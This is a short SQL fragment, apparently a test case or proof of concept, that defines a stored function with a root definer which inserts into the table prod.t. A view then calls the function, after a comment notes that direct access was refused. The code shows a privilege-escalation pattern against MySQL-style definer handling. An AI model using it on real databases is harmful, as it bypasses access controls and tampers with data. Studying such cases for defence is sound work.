-- own account: denied; login of the target: refused
/*!50003 CREATE*/ /*!50020 DEFINER=`root`@`localhost`*/ /*!50003 FUNCTION f() RETURNS int DETERMINISTIC
BEGIN INSERT INTO prod.t VALUES (8, 8); RETURN 1; END */;
CREATE VIEW v AS SELECT format(1, f()) AS y;
